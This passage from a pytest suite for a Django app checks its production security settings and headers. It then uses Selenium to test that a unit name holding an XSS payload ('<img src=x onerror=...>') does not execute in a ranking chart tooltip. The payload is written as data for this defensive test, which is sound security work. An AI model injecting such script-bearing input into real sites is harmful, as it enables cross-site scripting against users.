    env["SECRET_KEY"] = "x7Gv2pQm9Lr4Tz8Wc1Nh6Bk3Yd5Fs0Ja" * 2
    done = run(PRODUCTION_PROBE, env)
    assert done.returncode == 0, done.stderr
    found = json.loads(done.stdout.strip().splitlines()[-1])
    assert found["settings"] == {
        "DEBUG": False,
        "SESSION_COOKIE_SECURE": True,
        "SESSION_COOKIE_HTTPONLY": True,
        "SESSION_COOKIE_SAMESITE": "Lax",
        "SESSION_COOKIE_AGE": 28800,
        "SESSION_EXPIRE_AT_BROWSER_CLOSE": True,
        "CSRF_COOKIE_SECURE": True,
        "CSRF_COOKIE_HTTPONLY": True,
        "LANGUAGE_COOKIE_SECURE": True,
        "SECURE_SSL_REDIRECT": True,
        "SECURE_HSTS_SECONDS": 31536000,
        "SECURE_HSTS_INCLUDE_SUBDOMAINS": True,
        "SECURE_HSTS_PRELOAD": True,
        "SECURE_PROXY_SSL_HEADER": ["HTTP_X_FORWARDED_PROTO", "https"],
        "X_FRAME_OPTIONS": "DENY",
        "SECURE_CONTENT_TYPE_NOSNIFF": True,
        "AXES_FAILURE_LIMIT": 5,
        "AXES_LOCKOUT_PARAMETERS": [["username", "ip_address"], "ip_address"],
        "AXES_RESET_ON_SUCCESS": False,
        "TRUSTED_PROXY_COUNT": 1,
    }
    assert found["first_backend"] == "axes.backends.AxesStandaloneBackend"
    assert found["last_middleware"] == "axes.middleware.AxesMiddleware"
    status, location = found["plain"]
    assert status == 301 and location.startswith("https://")
    assert found["health"] == 200  # exempt from the redirect, for plain-HTTP health checks
    assert found["headers"] == {
        "Strict-Transport-Security": "max-age=31536000; includeSubDomains; preload",
        "X-Frame-Options": "DENY",
        "X-Content-Type-Options": "nosniff",
        "Referrer-Policy": "same-origin",
        "Cross-Origin-Opener-Policy": "same-origin",
    }


# --- untrusted text in the browser: the ranking chart ------------------------------------------

CHROMIUM, CHROMEDRIVER = "/usr/bin/chromium", "/usr/bin/chromedriver"


@pytest.mark.browser
@pytest.mark.django_db(transaction=True)
@pytest.mark.skipif(
    not (os.path.exists(CHROMIUM) and os.path.exists(CHROMEDRIVER)),
    reason="no chromium/chromedriver: run scripts/install-system.sh --browser",
)
def test_a_hostile_unit_name_does_not_run_in_the_ranking_charts_tooltip(live_server, world):
    """The server escapes the name (json_script); the chart must not turn it back into HTML."""
    from django.contrib.auth import get_user_model
    from django.test import Client
    from selenium.webdriver.common.action_chains import ActionChains
    from selenium.webdriver.common.by import By
    from selenium.webdriver.support.ui import WebDriverWait

    Unit.objects.filter(pk=world.unit_a1.pk).update(
        name="<img src=x onerror=\"document.title='pwned'\">", short_name=""
    )
    install_scheme(world.year)
    put_figures(world.year, {("a1", "new_coops"): 20, ("a2", "new_coops"): 10})
    year_recompute(emulation_year_id=world.year.pk)
    client = Client()
    client.force_login(get_user_model().objects.get(username="secretariat"))
    from tests.browser.conftest import start_chromium

    driver = start_chromium()
    try:
        driver.get(live_server.url + "/healthz/")
        driver.add_cookie({"name": "sessionid", "value": client.cookies["sessionid"].value})
        driver.get(f"{live_server.url}/nam/{world.year.pk}/")
        WebDriverWait(driver, 10).until(
            lambda d: d.find_elements(By.CSS_SELECTOR, "#totals-chart rect.bar")
        )
        tips = []
        for bar in driver.find_elements(By.CSS_SELECTOR, "#totals-chart rect.bar"):
            ActionChains(driver).move_to_element(bar).perform()
            tips.append(bar.find_element(By.TAG_NAME, "title").get_attribute("textContent"))
        # The name is the tooltip's text, as typed; nothing of it became an element.
        assert any(t.startswith("<img src=x onerror=") for t in tips), tips
        ran = driver.title == "pwned" or driver.find_elements(By.CSS_SELECTOR, "#totals-chart img")
    finally:
        driver.quit()
    assert not ran
